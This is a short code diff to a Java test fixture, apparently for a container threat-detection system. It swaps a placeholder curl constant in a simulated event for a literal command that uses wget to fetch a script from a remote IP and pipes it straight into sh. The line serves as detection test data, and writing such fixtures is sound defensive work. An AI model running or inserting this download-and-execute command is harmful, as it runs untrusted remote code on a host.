@@ -136,7 +136,9 @@ final class ContainerDetectionRows {
                         NEW_DIGEST
                                 .tuned(SCOPED)
                                 .with(Link.PLACE, reported(NEXT_DAY, POD, SUBJECT, ADDRESS))
-                                .with(Link.COMMAND, run(NEXT_DAY.plusSeconds(5), CURL)));
+                                .with(
+                                        Link.COMMAND,
+                                        run(NEXT_DAY.plusSeconds(5), "bash", "-c", "wget -qO- http://198.51.100.7/i | sh")));
     }
 
     private static Row reachedInScope() {
